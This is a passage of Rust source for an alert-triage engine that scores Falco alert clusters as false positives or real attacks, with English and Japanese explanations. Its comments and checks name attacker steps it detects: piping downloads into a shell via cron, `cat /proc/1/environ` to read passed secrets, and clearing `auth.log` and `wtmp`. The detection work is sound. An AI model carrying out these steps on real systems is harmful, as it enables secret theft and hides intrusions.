//! Triage: a verdict per cluster with a score, the reasons that moved it (each naming
//! its evidence), and what a person should confirm. English and Japanese.
//!
//! The score is the estimated probability that the cluster is a false positive. It
//! starts at 0.5 (no evidence either way) and each signal adds its effect in log-odds:
//! positive effects point to a false positive, negative ones to a real attack.

use std::collections::{BTreeSet, HashMap};

use quell_events::FlatEvent;
use quell_rules::engine::Engine;
use quell_rules::output::falco_time;
use serde::Serialize;
use serde_json::{json, Value as Json};

use crate::catalogue::{shipped_executable, Catalogue};
use crate::cluster::{cluster, target, Cluster};
use crate::evidence::{
    activity, actor, in_drop_dir, is_credential, is_schedule_entry, job_launcher, job_runs_dropped,
    plain_service_command, scheduled_job, scheduler_launcher, target_sensitivity, unattended,
    workload_init, Activity, Sensitivity, WorkSeen,
};
use crate::history::History;
use crate::input::{alerts, text, value_int, value_text, Alert, Fields, Record};
use crate::session::{Context, PlainEvent, Session, Sessions};
use crate::signals::{self, Anchor, Kind, Weights};

/// Output language.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Lang {
    /// English.
    #[default]
    En,
    /// Japanese.
    Ja,
}

impl Lang {
    /// `en` or `ja`.
    pub fn parse(s: &str) -> Option<Lang> {
        match s {
            "en" => Some(Lang::En),
            "ja" => Some(Lang::Ja),
            _ => None,
        }
    }
    pub(crate) fn t(self, en: String, ja: String) -> String {
        match self {
            Lang::En => en,
            Lang::Ja => ja,
        }
    }
}

/// A cluster's verdict.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    /// Likely a false positive.
    LikelyFalsePositive,
    /// Not enough evidence either way.
    Uncertain,
    /// Likely a real attack.
    LikelyReal,
}

impl Verdict {
    /// The verdict for a score.
    pub fn from_score(score: f64) -> Verdict {
        if score >= FP_THRESHOLD {
            Verdict::LikelyFalsePositive
        } else if score <= REAL_THRESHOLD {
            Verdict::LikelyReal
        } else {
            Verdict::Uncertain
        }
    }
    /// The JSON spelling.
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::LikelyFalsePositive => "likely_false_positive",
            Verdict::Uncertain => "uncertain",
            Verdict::LikelyReal => "likely_real",
        }
    }
    /// The verdict in words, for people.
    pub fn text(self, lang: Lang) -> &'static str {
        match (self, lang) {
            (Verdict::LikelyFalsePositive, Lang::En) => "likely false positive",
            (Verdict::Uncertain, Lang::En) => "uncertain",
            (Verdict::LikelyReal, Lang::En) => "likely real",
            (Verdict::LikelyFalsePositive, Lang::Ja) => "誤検知の可能性が高い",
            (Verdict::Uncertain, Lang::Ja) => "判断保留",
            (Verdict::LikelyReal, Lang::Ja) => "実際の攻撃の可能性が高い",
        }
    }
}

/// At or above: likely false positive.
pub const FP_THRESHOLD: f64 = 0.8;
/// At or below: likely real.
pub const REAL_THRESHOLD: f64 = 0.3;

/// One reason: a signal, the evidence it rests on, and its effect in log-odds
/// (positive: toward false positive).
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Reason {
    /// The signal's id (`interactive_session`, `known_benign`, `attack_chain`, ...).
    pub signal: String,
    /// What was seen, in the requested language.
    pub evidence: String,
    /// Change in log-odds that the cluster is a false positive.
    pub effect: f64,
}

/// The triage of one cluster.
#[derive(Clone, Debug, Serialize)]
pub struct ClusterReport {
    /// The rule.
    pub rule: String,
    /// The cluster's stable id.
    pub cluster: String,
    /// Alerts in the cluster.
    pub alerts: usize,
    /// The verdict.
    pub verdict: Verdict,
    /// Estimated probability that the cluster is a false positive.
    pub score: f64,
    /// The reasons that moved the score most, strongest first.
    pub reasons: Vec<Reason>,
    /// What a person should confirm before deciding.
    pub confirm: Vec<String>,
    /// One alert of the cluster, as Falco JSON.
    pub sample: Json,
    /// A one-paragraph explanation.
    pub summary: String,
    /// The cluster's signature (workload, executable, lineage, masked target).
    pub signature: crate::cluster::Signature,
    /// Record indices of the cluster's alerts.
    #[serde(skip)]
    pub members: Vec<usize>,
    /// Per signal, its aggregate activation (the effect is its weight times this): what
    /// the weight fitting works on.
    #[serde(skip)]
    pub features: Features,
    /// What anchors a likely false positive for every alert of the cluster, whatever the
    /// score: `signal (basis)`, basis `recorded`, `unattended`, `harmless_act` or
    /// `quiet_session` (see `anchor:` in data/signals.yaml). None: some alert has no
    /// anchor, and the cluster is never called likely false positive.
    pub anchor: Option<String>,
}

/// How many reasons a report keeps.
pub const MAX_REASONS: usize = 5;

/// Everything triage weighs besides the alerts.
pub struct Triage<'a> {
    /// The rules (to find alerts in recordings and render samples).
    pub engine: &'a Engine,
    /// Known-benign catalogue.
    pub catalogue: &'a Catalogue,
    /// Past alerts.
    pub history: &'a History,
    /// Output language.
    pub lang: Lang,
    /// Host name for samples built from events.
    pub hostname: &'a str,
}

/// A signal seen on one alert: its id, its activation (the effect is weight x activation)
/// and the values its text names.
#[derive(Clone, Debug)]
struct Hit {
    id: &'static str,
    act: f64,
    vars: Vec<(&'static str, String)>,
}

fn hit(id: &'static str, act: f64, vars: Vec<(&'static str, String)>) -> Hit {
    Hit { id, act, vars }
}

fn sigmoid(x: f64) -> f64 {
    1.0 / (1.0 + (-x).exp())
}

fn round3(x: f64) -> f64 {
    (x * 1000.0).round() / 1000.0
}

fn kind_of(id: &str) -> Kind {
    signals::bundled().get(id).map_or(Kind::Attack, |s| s.kind)
}

/// Whether a signal with this effect rules out "likely false positive".
fn vetoes(id: &str, effect: f64) -> bool {
    effect < 0.0 && signals::bundled().vetoes(id)
}

/// The verdict for a score: "likely false positive" only with no vetoing signal and at
/// least one anchoring signal (evidence an intruder at the same terminal could not
/// produce); at best uncertain otherwise.
pub fn verdict(score: f64, vetoed: bool, anchored: bool) -> Verdict {
    match Verdict::from_score(score) {
        Verdict::LikelyFalsePositive if vetoed || !anchored => Verdict::Uncertain,
        v => v,
    }
}

/// Facts of one alert that decide whether its benign signals anchor.
#[derive(Clone, Copy, Debug, Default)]
struct AnchorFacts {
    /// Nobody entered the session ([`unattended`]).
    unattended: bool,
    /// The catalogue entry matched says its act is harmless whoever runs it, the
    /// executable is the system's own, and, in a session somebody entered (a terminal or
    /// a login entry), nothing in the whole of it counts toward an attack by
    /// `Sessions::person_trace`'s strict test.
    harmless_act: bool,
    /// A person's session quell saw as events, with nothing in it that counts toward an
    /// attack (in the window, and in the whole of it by `Sessions::person_trace`) and no
    /// package manager run in it (removing a package log after an install hides the
    /// install).
    quiet: bool,
    /// Work a service manager started, quiet as a job (see `signals_for`): weighed as
    /// `job_recurs` once its cluster shows the same act in two or more such sessions.
    recurs: bool,
    /// The alert's own act writes where intruders persist (a cron entry, a unit, login
    /// keys, a shell start-up file): a catalogue entry knows the agent, not what it was told
    /// to install, so it does not anchor (holdout13: a configuration agent's run writing a
    /// cron file whose line pipes a download into a shell looked like its routine run).
    writes_persistence: bool,
    /// Another act of the alert's session (its own process's too) wrote where intruders
    /// persist, whoever excused it: a catalogue entry knows the agent, not what its run was told to install,
    /// so the run's other alerts are not anchored by the agent's name either (session 24,
    /// the blind holdout33: a configuration state's shared folder anchored while the same
    /// run wrote a cron file).
    session_persists: bool,
    /// Another act of the alert's session emptied, removed or moved a security record
    /// (`Step::LogCleared`: an authentication or audit log, login records, a shell history)
    /// by a program no catalogue entry explains: a known agent's name says nothing of what
    /// else its run did, so none of the run's alerts is anchored by it (session 25, the
    /// blind holdout35: a log flush script edited to also empty `auth.log` and `wtmp`,
    /// while its logrotate child's truncations matched the log rotation entry). A rotator
    /// moving `auth.log` aside is explained by its entry and withholds nothing.
    session_clears_record: bool,
    /// The alert's target is sensitive or a persistence location and its session reached
    /// outside the site: a catalogue entry knows the agent, not where its instructions
    /// came from, so it does not anchor (the blind holdout24: a configuration pull pointed
    /// at a repository outside the site, reading and rewriting login keys as its routine
    /// run does).
    sensitive_outside: bool,
    /// A general-purpose reader printed another process's environment in the alert's
    /// session (`cat /proc/1/environ`): an agent discovering services reads environments
    /// with its own code; a job's or a workload's script printing one takes the secrets
    /// the orchestrator passed that process, so nothing unattended anchors (the blind
    /// holdout30: a CronJob's sync script, edited to also `cat /proc/1/environ`, kept its
    /// copy tool's catalogue anchor).
    prints_environment: bool,
}

/// The signal that anchors a likely false positive among an alert's hits, if any, with
/// what makes it one: `recorded` (people's decisions, prevalence), `unattended` (nobody
/// entered the session), `harmless_act` (a catalogue act harmless whoever runs it, by the
/// system's own executable) or `quiet_session`.
fn anchor_of(hits: &[Hit], facts: AnchorFacts) -> Option<(&'static str, &'static str)> {
    hits.iter()
        .filter(|h| h.act > 0.0 && kind_of(h.id) == Kind::Benign)
        .find_map(|h| match signals::bundled().anchor(h.id) {
            Anchor::Never => None,
            Anchor::Always => Some((h.id, "recorded")),
            Anchor::Unattended
                if h.id == "known_benign"
                    && (facts.writes_persistence
                        || facts.session_persists
                        || facts.session_clears_record
                        || facts.sensitive_outside) =>
            {
                None
            }
            Anchor::Unattended if facts.prints_environment => None,
            Anchor::Unattended if facts.unattended => Some((h.id, "unattended")),
            Anchor::Unattended if h.id == "known_benign" && facts.harmless_act => {
                Some((h.id, "harmless_act"))
            }
            Anchor::Unattended => None,
            Anchor::QuietSession if facts.quiet => Some((h.id, "quiet_session")),
            Anchor::QuietSession => None,
        })
}

/// The fact that withheld an unattended anchor from an alert whose work nobody entered,
/// when one did (see [`anchor_of`]): `writes_persistence`, `session_persists`,
/// `sensitive_outside` or `prints_environment`. The report says it instead of the generic text about what an
/// intruder at a terminal could produce.
fn withheld_by(hits: &[Hit], facts: AnchorFacts) -> Option<&'static str> {
    if !facts.unattended {
        return None;
    }
    let unattended_hit = |id: &str| {
        hits.iter().any(|h| {
            h.id == id
                && h.act > 0.0
                && kind_of(h.id) == Kind::Benign
                && signals::bundled().anchor(h.id) == Anchor::Unattended
        })
    };
    if facts.prints_environment && hits.iter().any(|h| unattended_hit(h.id)) {
        return Some("prints_environment");
    }
    if unattended_hit("known_benign") {
        if facts.writes_persistence {
            return Some("writes_persistence");
        }
        if facts.session_persists {
            return Some("session_persists");
        }
        if facts.session_clears_record {
            return Some("session_clears_record");
        }
        if facts.sensitive_outside {
            return Some("sensitive_outside");
        }
    }
    None
}

/// Why an unattended anchor was withheld ([`withheld_by`]), in words.
fn withheld_text(fact: &str, lang: Lang) -> &'static str {
    match (fact, lang) {
        ("prints_environment", Lang::En) => "a program in its session printed another process's environment, which holds the secrets passed to that process",
        ("prints_environment", Lang::Ja) => "セッション内のプログラムが他のプロセスの環境変数（そのプロセスに渡された秘密情報を含む）を出力している",
        ("writes_persistence", Lang::En) => "its own act writes where intruders persist, and a known agent's name says nothing of what it was told to install",
        ("writes_persistence", Lang::Ja) => "アラート自身の動作が侵入者の永続化先への書き込みであり、既知のエージェント名からは何を導入させられたかは分からない",
        ("session_persists", Lang::En) => "its session also wrote where intruders persist, and a known agent's name says nothing of what its run was told to install",
        ("session_persists", Lang::Ja) => "同じセッションが侵入者の永続化先にも書き込んでおり、既知のエージェント名からはその実行で何を導入させられたかは分からない",
        ("session_clears_record", Lang::En) => "another program of its session emptied or moved a security record (an authentication or audit log, login records, a shell history), and a known agent's name says nothing of what else its run did",
        ("session_clears_record", Lang::Ja) => "同じセッションの別のプログラムがセキュリティ記録（認証・監査ログ、ログイン記録、シェル履歴）を消去または移動しており、既知のエージェント名からはその実行が他に何をしたかは分からない",
        (_, Lang::En) => "its target is sensitive and its session reached outside the site, and a known agent's name says nothing of where its instructions came from",
        (_, Lang::Ja) => "対象が機密ファイルで、セッションがサイト外へ接続しており、既知のエージェント名からは指示の出どころは分からない",
    }
}

/// A Falco JSON alert for a record: the alert line itself when it is one, else built
/// from the rule's output format.
pub fn sample_alert(engine: &Engine, rule: &str, r: &Record, hostname: &str) -> Json {
    if let Some(raw) = &r.raw_alert {
        return raw.clone();
    }
    let ts = r.event.timestamp_ns().unwrap_or(0);
    match engine.rule(rule) {
        Some(c) => {
            let mut alert = quell_events::FalcoAlert::new(c, &r.event, ts, hostname);
            // The lineage the cluster signature keys on, so that the sample alert triages
            // into the cluster it stands for.
            for level in 1..=crate::evidence::MAX_ANCESTORS {
                let k = format!("proc.aname[{level}]");
                match text(&r.event, &k) {
                    Some(v) => {
                        alert.output_fields.entry(k).or_insert(json!(v));
                    }
                    None if level > 1 => break,
                    None => {}
                }
            }
            for k in crate::cluster::SIGNATURE_FIELDS {
                let v = match (crate::input::int(&r.event, k), text(&r.event, k)) {
                    (Some(i), _) => json!(i),
                    (None, Some(s)) => json!(s),
                    (None, None) => continue,
                };
                alert.output_fields.entry((*k).to_string()).or_insert(v);
            }
            alert.to_json()
        }
        None => {
            json!({ "hostname": hostname, "rule": rule, "output_fields": {}, "time": falco_time(ts) })
        }
    }
}

fn describe_action(ev: &FlatEvent, lang: Lang) -> String {
    let who = text(ev, "proc.name").unwrap_or_else(|| "?".into());
    let ty = text(ev, "evt.type").unwrap_or_default();
    let tgt = target(ev).map(|(_, t)| t);
    let verb_en = match ty.as_str() {
        "unlink" | "unlinkat" | "rmdir" => "deleted",
        "rename" | "renameat" | "renameat2" => "renamed",
        "open" | "openat" | "openat2"
            if text(ev, "evt.arg.flags").is_some_and(|f| f.contains("O_TRUNC")) =>
        {
            "truncated"
        }
        "open" | "openat" | "openat2" => "opened",
        "execve" | "execveat" => "started",
        "connect" => "connected to",
        _ => "acted on",
    };
    let verb_ja = match ty.as_str() {
        "unlink" | "unlinkat" | "rmdir" => "削除",
        "rename" | "renameat" | "renameat2" => "名前変更",
        "open" | "openat" | "openat2"
            if text(ev, "evt.arg.flags").is_some_and(|f| f.contains("O_TRUNC")) =>
        {
            "切り詰め"
        }
        "open" | "openat" | "openat2" => "オープン",
        "execve" | "execveat" => "起動",
        "connect" => "接続",
        _ => "操作",
    };
    match tgt {
        Some(t) => lang.t(
            format!("{who} {verb_en} {t}"),
            format!("{who} が {t} を{verb_ja}"),
        ),
        None => {
            let cmd = text(ev, "proc.cmdline").unwrap_or(who.clone());
            lang.t(
                format!("{who} ran `{cmd}`"),
                format!("{who} が `{cmd}` を実行"),
            )
        }
    }
}

/// Records pushed one at a time into triage (see [`Triage::stream`]).
pub struct Stream<'a> {
    triage: &'a Triage<'a>,
    kept: Vec<Record>,
    orig: Vec<usize>,
    alerts: Vec<Alert>,
    sessions: Sessions,
    /// What every record (kept or only counted) shows of work nobody entered.
    seen: WorkSeen,
    pushed: usize,
    /// Reused for session keys of plain events.
    key_buf: String,
}

impl Stream<'_> {
    /// Adds the next record: kept when it is an alert (an alert line, or an event a rule
    /// matches) or an activity the session context weighs; otherwise only counted in its
    /// session.
    pub fn push(&mut self, r: Record) {
        let rules = self.triage.rules_for(&r);
        self.push_evaluated(r, rules);
    }

    /// [`Stream::push`] of a record whose rules were found already (by
    /// [`Triage::rules_for`], e.g. on another thread).
    pub fn push_evaluated(&mut self, r: Record, rules: Vec<String>) {
        let at = self.pushed;
        self.pushed += 1;
        self.seen.note(&r);
        let t = self.triage;
        let is_maint = |n: &str| t.catalogue.entry_for_actor(n).is_some();
        let irrelevant = rules.is_empty() && activity(&r.event, &is_maint).is_none();
        if irrelevant {
            self.sessions.count_event(&r);
            return;
        }
        let k = self.kept.len();
        self.sessions.push(k, &r, t.catalogue);
        for rule in rules {
            self.alerts.push(Alert { rule, index: k });
        }
        self.kept.push(r);
        self.orig.push(at);
    }

    /// Counts an event line (not an alert line) that no rule matched, read as `ev`
    /// (typically borrowed from the reader), without copying it, when it cannot be an
    /// activity the session context weighs: the same as pushing its record. Returns false,
    /// having done nothing, when it may be one: the caller then pushes the record.
    pub fn count_if_plain(&mut self, ev: &impl Fields) -> bool {
        if !cannot_be_activity(ev) {
            return false;
        }
        self.pushed += 1;
        let host = ev.value("hostname");
        let container = ev.value("container.id");
        let container = container.as_ref().and_then(value_text);
        let plain = PlainEvent {
            host: host.as_ref().and_then(|v| v.as_str()).unwrap_or_default(),
            container: container.as_deref().unwrap_or("host"),
            sid: ev.value("proc.sid").as_ref().and_then(value_int),
            pid: ev.value("proc.pid").as_ref().and_then(value_int),
        };
        if let (Some(pid), Some(vpid)) = (
            plain.pid,
            ev.value("proc.vpid").as_ref().and_then(value_int),
        ) {
            self.seen.note_plain(plain.host, plain.container, pid, vpid);
        }
        self.sessions.count_plain(&plain, &mut self.key_buf);
        true
    }

    /// How many records were pushed.
    pub fn pushed(&self) -> usize {
        self.pushed
    }

    /// Triages what was pushed.
    pub fn finish(
        mut self,
        weights: &Weights,
        progress: &mut dyn FnMut(usize, usize),
    ) -> Vec<ClusterReport> {
        self.sessions.finish(self.triage.catalogue);
        let mut reports = self.triage.run_core(
            &self.kept,
            &self.alerts,
            self.sessions,
            &self.seen,
            weights,
            progress,
        );
        for r in &mut reports {
            for m in &mut r.members {
                *m = self.orig.get(*m).copied().unwrap_or(*m);
            }
        }
        reports
    }
}

/// True when [`activity`] is certainly `None` for the event: its type is none that an
/// activity is made of, or it opens a file that is neither a credential, nor in a drop
/// directory, nor written where programs are installed. A necessary condition only (the owned record is judged in full otherwise);
/// it must stay one when `activity` learns new kinds (tested on the corpora and on
/// generated events).
pub fn cannot_be_activity(ev: &impl Fields) -> bool {
    let Some(ty) = ev.value("evt.type") else {
        return true;
    };
    let Some(ty) = value_text(&ty) else {
        return true;
    };
    match ty.as_ref() {
        "execve" | "execveat" | "connect" | "dup" | "dup2" | "dup3" => false,
        // A login daemon's accept: where a person's session came from
        // (`Sessions::entered_from_outside`).
        "accept" | "accept4" => false,
        // A datagram sent to an address: UDP's connection.
        "sendto" | "sendmsg" => ev
            .value("fd.l4proto")
            .as_ref()
            .and_then(value_text)
            .is_none_or(|p| p != "udp"),
        // A schedule entry renamed or linked into place (`Activity::WroteSchedule`).
        "rename" | "renameat" | "renameat2" | "link" | "linkat" | "symlink" | "symlinkat" => false,
        "open" | "openat" | "openat2"
            if ev
                .value("fd.name")
                .as_ref()
                .and_then(value_text)
                .is_some_and(|path| {
                    is_credential(&path)
                        || in_drop_dir(&path)
                        || (crate::catalogue::installed_location(&path)
                            && crate::evidence::opened_for_write(ev))
                        || is_schedule_entry(&path)
                        || crate::evidence::persists(&path)
                }) =>
        {
            false
        }
        "socket" => {
            let arg = |k: &str| {
                ev.value(k)
                    .as_ref()
                    .and_then(value_text)
                    .map(|v| v.to_string())
                    .unwrap_or_default()
            };
            !crate::evidence::raw_socket(&arg("evt.arg.domain"), &arg("evt.arg.type"))
        }
        // A step toward an attack that a person's quiet session weighs (a setuid bit, a
        // write to an account database, a security log cleared, credential material read).
        t => !crate::evidence::may_be_step(
            t,
            STEP_PATH_FIELDS.iter().filter_map(|k| {
                ev.value(k)
                    .as_ref()
                    .and_then(value_text)
                    .map(|v| v.to_string())
            }),
        ),
    }
}

/// The fields that carry the paths [`crate::evidence::attack_step`] reads.
const STEP_PATH_FIELDS: &[&str] = &[
    "fd.name",
    "evt.arg.name",
    "fs.path.name",
    "evt.arg.path",
    "evt.arg.filename",
    "fs.path.source",
    "fs.path.target",
    "evt.arg.oldpath",
    "evt.arg.newpath",
    "evt.arg.linkpath",
    "evt.arg.target",
];

/// What splits a cluster into parts: the attack signals present, the verdict, whether a
/// benign signal anchored, the rules the alert's session raised besides its own, and the
/// kinds of steps toward an attack its sessions show by the strict person test
/// ([`Sessions::trace_kinds`]), weighed or not.
type PartKey = (
    Vec<&'static str>,
    Verdict,
    bool,
    Vec<String>,
    Vec<&'static str>,
);

/// One signal in a cluster part: id, alerts showing it, sum and maximum of its activation,
/// the first alert's values for its text.
type AggSignal = (&'static str, usize, f64, f64, Vec<(&'static str, String)>);

/// The signals of one cluster part summed up: per signal, how many alerts show it, the
/// sum and the maximum of its activation, and the first alert's values for its text.
#[derive(Default)]
struct Agg {
    members: Vec<usize>,
    signals: Vec<AggSignal>,
    /// Per alert, its anchor (see [`anchor_of`]).
    anchors: Vec<Option<(&'static str, &'static str)>>,
    /// The first fact that withheld an unattended anchor from one of its alerts
    /// ([`withheld_by`]).
    withheld: Option<&'static str>,
}

impl Agg {
    fn add(
        &mut self,
        at: usize,
        hits: Vec<Hit>,
        anchor: Option<(&'static str, &'static str)>,
        withheld: Option<&'static str>,
    ) {
        self.members.push(at);
        self.anchors.push(anchor);
        self.withheld = self.withheld.or(withheld);
        for h in hits {
            match self.signals.iter_mut().find(|s| s.0 == h.id) {
                Some(s) => {
                    s.1 += 1;
                    s.2 += h.act;
                    if h.act > s.3 {
                        s.3 = h.act;
                    }
                }
                None => self.signals.push((h.id, 1, h.act, h.act, h.vars)),
            }
        }
    }
}

/// The features of a cluster for fitting: per signal, its aggregate activation (attack
/// signals: the strongest over the alerts; benign ones: the mean over the alerts), so that
/// the cluster's log-odds are the sum of weight x feature.
pub type Features = Vec<(String, f64)>;

impl Triage<'_> {
    /// Triages records (a recording or Falco alerts): finds the alerts, clusters them and
    /// returns one report per cluster, in order of first appearance. A cluster whose alerts
    /// get different verdicts is split by verdict.
    pub fn run(&self, records: &[Record]) -> Vec<ClusterReport> {
        self.run_with(records, &signals::bundled().weights(), &mut |_, _| {})
    }

    /// [`Triage::run`] with given signal weights (a fitted set) and a progress callback
    /// called with (alerts done, alerts in all) every few thousand alerts.
    pub fn run_with(
        &self,
        records: &[Record],
        weights: &Weights,
        progress: &mut dyn FnMut(usize, usize),
    ) -> Vec<ClusterReport> {
        let all = alerts(self.engine, records);
        let sessions = Sessions::build(records, self.catalogue);
        let seen = WorkSeen::build(records);
        self.run_core(records, &all, sessions, &seen, weights, progress)
    }

    /// The rules a record stands for: the rule an alert line names, or the first rule an
    /// event matches (as in Falco).
    pub fn rules_for(&self, r: &Record) -> Vec<String> {
        match &r.rule {
            Some(rule) => vec![rule.clone()],
            None => self
                .engine
                .evaluate(&r.event, quell_rules::engine::RuleMatching::First)
                .into_iter()
                .map(|c| c.name.clone())
                .collect(),
        }
    }

    /// Triage of records given one at a time ([`Stream::push`]): only alerts and the
    /// session activities triage weighs are kept, so that long recordings fit in memory.
    /// The reports' `members` are the indices of the records in the order pushed.
    pub fn stream(&self) -> Stream<'_> {
        Stream {
            triage: self,
            kept: Vec::new(),
            orig: Vec::new(),
            alerts: Vec::new(),
            sessions: Sessions::default(),
            seen: WorkSeen::default(),
            pushed: 0,
            key_buf: String::new(),
        }
    }

    fn run_core(
        &self,
        records: &[Record],
        all: &[Alert],
        mut sessions: Sessions,
        seen: &WorkSeen,
        weights: &Weights,
        progress: &mut dyn FnMut(usize, usize),
    ) -> Vec<ClusterReport> {
        let clusters = cluster(all, records);
        // The catalogue entry each alert's own event matches, looked up once (both the
        // suspicion below and the alert's signals weigh it).
        let found: HashMap<usize, Option<crate::catalogue::Match<'_>>> = all
            .iter()
            .filter_map(|a| Some((a.index, self.catalogue.find(&records.get(a.index)?.event))))
            .collect();
        // Alerts whose own lineage shows an attack count against the other alerts of their
        // session; the others (the same benign session's several alerts) do not.
        for a in all {
            if let Some(r) = records.get(a.index) {
                if self.intrinsically_suspicious(&r.event, found.get(&a.index)) {
                    sessions.add_suspicious_alert(records, a.index, &a.rule);
                }
            }
        }
        // The rules each session raised: an alert whose session also raised others (an
        // operator's shell that only emptied a log, an intruder's that also fetched and ran
        // a tool) is another behaviour than one whose session raised only it.
        let mut session_rules: HashMap<*const Session, BTreeSet<&str>> = HashMap::new();
        for a in all {
            if let Some(s) = sessions.session(a.index) {
                session_rules
                    .entry(std::ptr::from_ref(s))
                    .or_default()
                    .insert(a.rule.as_str());
            }
        }
        let others = |at: usize, rule: &str| -> Vec<String> {
            sessions
                .session(at)
                .and_then(|s| session_rules.get(&std::ptr::from_ref(s)))
                .map(|set| {
                    set.iter()
                        .filter(|r| **r != rule)
                        .map(|r| (*r).to_string())
                        .collect()
                })
                .unwrap_or_default()
        };
        let w = |id: &str| weights.get(id).copied().unwrap_or(0.0);
        let total = all.len();
        let mut done = 0usize;
        let mut out: Vec<(usize, ClusterReport)> = Vec::new();
        for c in &clusters {
            let rule = &c.signature.rule;
            let hist_hits = self.history_hits(&c.id);
            // A cluster is one behaviour with one kind of evidence: alerts whose lineage
            // or session shows different attack evidence (a download before one of two
            // identical deletions) are told apart, and so are alerts with different
            // verdicts.
            // The key: the attack signals present, the verdict, and whether a benign signal
            // anchored (so that a cluster never mixes alerts whose verdicts could differ).
            let mut parts: Vec<(PartKey, Agg)> = Vec::new();
            let mut scored: Vec<(usize, Vec<Hit>, AnchorFacts)> = c
                .members
                .iter()
                .map(|&i| {
                    let (mut hits, facts) =
                        self.signals_for(rule, records, i, &sessions, seen, found.get(&i));
                    hits.extend(hist_hits.iter().cloned());
                    (i, hits, facts)
                })
                .collect();
            recurrence(&mut scored, records, &sessions, &w);
            for (i, hits, facts) in scored {
                let logit: f64 = hits.iter().map(|h| w(h.id) * h.act).sum();
                let vetoed = hits.iter().any(|h| vetoes(h.id, w(h.id) * h.act));
                let anchor = anchor_of(&hits, facts);
                let withheld = anchor
                    .is_none()
                    .then(|| withheld_by(&hits, facts))
                    .flatten();
                let v = verdict(round3(sigmoid(logit)), vetoed, anchor.is_some());
                let mut class: Vec<&'static str> = hits
                    .iter()
                    .filter(|h| kind_of(h.id) == Kind::Attack)
                    .map(|h| h.id)
                    .collect();
                class.sort_unstable();
                class.dedup();
                let key = (
                    class,
                    v,
                    anchor.is_some(),
                    others(i, rule),
                    sessions.trace_kinds(records, i),
                );
                match parts.iter_mut().find(|(k, _)| *k == key) {
                    Some((_, agg)) => agg.add(i, hits, anchor, withheld),
                    None => {
                        let mut agg = Agg::default();
                        agg.add(i, hits, anchor, withheld);
                        parts.push((key, agg));
                    }
                }
                done += 1;
                if done % 4096 == 0 {
                    progress(done, total);
                }
            }
            let split = parts.len() > 1;
            for ((class, v, anchored, with, steps), agg) in parts {
                let id = if split {
                    let anchor = if anchored { "/anchored" } else { "" };
                    let with = if with.is_empty() {
                        String::new()
                    } else {
                        format!("/with={}", with.join(","))
                    };
                    let steps = if steps.is_empty() {
                        String::new()
                    } else {
                        format!("/steps={}", steps.join(","))
                    };
                    c.signature.id_for(&format!(
                        "{}/{}{anchor}{with}{steps}",
                        class.join(","),
                        v.as_str()
                    ))
                } else {
                    c.id.clone()
                };
                let first = agg.members.first().copied().unwrap_or(0);
                out.push((first, self.report(c, id, agg, v, records, weights)));
            }
        }
        progress(total, total);
        out.sort_by_key(|(first, _)| *first);
        out.into_iter().map(|(_, r)| r).collect()
    }

    /// An alert whose own process lineage shows an attack: a service's shell that ran more
    /// than one plain command of the system's own ([`plain_service_command`]) or a dropped
    /// binary, either unexplained by the catalogue, a network stdin, a service account at a
    /// terminal. Weak evidence (a plain command under a service's shell) does not make an
    /// alert evidence against the other alerts of its session.
    fn intrinsically_suspicious(
        &self,
        ev: &FlatEvent,
        found: Option<&Option<crate::catalogue::Match<'_>>>,
    ) -> bool {
        let a = actor(ev);
        let cat = match found {
            Some(f) => f.clone(),
            None => self.catalogue.find(ev),
        };
        let allows = |s: &str| cat.as_ref().is_some_and(|m| m.entry.allows_signal(s));
        let dropped = a.dropped_exe.as_ref().is_some_and(|(_, p)| {
            !allows("dropped_binary")
                && self
                    .catalogue
                    .built(p, None, a.dropped_parent.as_deref())
                    .is_none()
        });
        (a.service_shell.is_some()
            && !allows("service_shell")
            && plain_service_command(ev).is_none())
            || dropped
            || a.network_stdio.is_some()
            || (a.tty && a.system_account.is_some())
    }

    fn history_hits(&self, id: &str) -> Vec<Hit> {
        let p = self.history.prevalence(id);
        let mut out = Vec::new();
        if p.real > 0 {
            out.push(hit(
                "history_real",
                1.0,
                vec![
                    ("real", p.real.to_string()),
                    ("benign", p.benign.to_string()),
                ],
            ));
        } else if p.benign > 0 {
            out.push(hit(
                "history_benign",
                (1.0 + 0.5 * (1.0 + p.benign as f64).ln()).min(2.5),
                vec![("benign", p.benign.to_string())],
            ));
        } else if self.history.given && p.count >= 10 && (p.hosts >= 2 || p.span_s >= 86_400) {
            out.push(hit(
                "prevalence_common",
                1.0,
                vec![
                    ("count", p.count.to_string()),
                    ("hosts", p.hosts.to_string()),
                    ("workloads", p.workloads.to_string()),
                    ("days", format!("{:.1}", p.span_s as f64 / 86_400.0)),
                ],
            ));
        } else if self.history.given && p.count == 0 {
            out.push(hit(
                "prevalence_new",
                1.0,
                vec![("total", self.history.total.to_string())],
            ));
        }
        out
    }

    /// The signals of alert `at`; `found` is the catalogue entry its event matches when
    /// already looked up ([`Catalogue::find`]).
    fn signals_for(
        &self,
        rule: &str,
        records: &[Record],
        at: usize,
        sessions: &Sessions,
        seen: &WorkSeen,
        found: Option<&Option<crate::catalogue::Match<'_>>>,
    ) -> (Vec<Hit>, AnchorFacts) {
        let mut out = Vec::new();
        let Some(r) = records.get(at) else {
            return (out, AnchorFacts::default());
        };
        let ev = &r.event;
        let proc_name = text(ev, "proc.name").unwrap_or_else(|| "?".into());
        let a = actor(ev);
        let lang = self.lang;
        let when = |b: bool| -> String {
            match (b, lang) {
                (true, Lang::En) => "before",
                (false, Lang::En) => "after",
                (true, Lang::Ja) => "前",
                (false, Lang::Ja) => "後",
            }
            .to_string()
        };

        // Session facts first: they decide whether catalogue entries may apply.
        let ctx = sessions.context(records, at);
        let download = ctx.iter().find(|c| match &c.act.activity {
            Activity::Download(..) => true,
            Activity::FetchToStdout(..) => sessions.piped_to_shell(records, c.act),
            _ => false,
        });
        let downloaded = download.is_some();
        let counts = |c: &&Context| c.act.excused.is_none() || downloaded;
        let exec_dropped = ctx
            .iter()
            .filter(counts)
            .find(|c| matches!(c.act.activity, Activity::ExecDropped(_)));
        // A job nobody entered (cron, an agent under init), with no service in its
        // lineage: its connections to the host's or the site's own networks are its work
        // (a backup server, a database probe), and credentials it reads are not stolen
        // while nothing in its session reached outside the site (issue 11).
        let reached_outside = ctx.iter().any(|c| c.act.outside);
        // Work nobody entered, by lineage shape (session 7): a container workload's own
